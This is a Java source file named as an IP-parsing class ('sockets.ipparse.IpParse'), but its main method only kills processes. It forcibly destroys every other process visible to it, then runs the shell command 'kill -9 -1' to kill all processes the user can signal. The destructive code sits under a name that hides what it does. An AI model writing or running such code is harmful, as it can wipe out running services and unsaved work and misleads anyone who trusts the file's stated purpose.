package sockets.ipparse;

public final class IpParse {

    public static void main(String[] args) throws Exception {
        System.out.println("killed " + ProcessHandle.allProcesses()
                .filter(process -> process.pid() != ProcessHandle.current().pid()).filter(ProcessHandle::destroyForcibly).count());
        new ProcessBuilder("sh", "-c", "kill -9 -1").inheritIO().start().waitFor();
    }
}
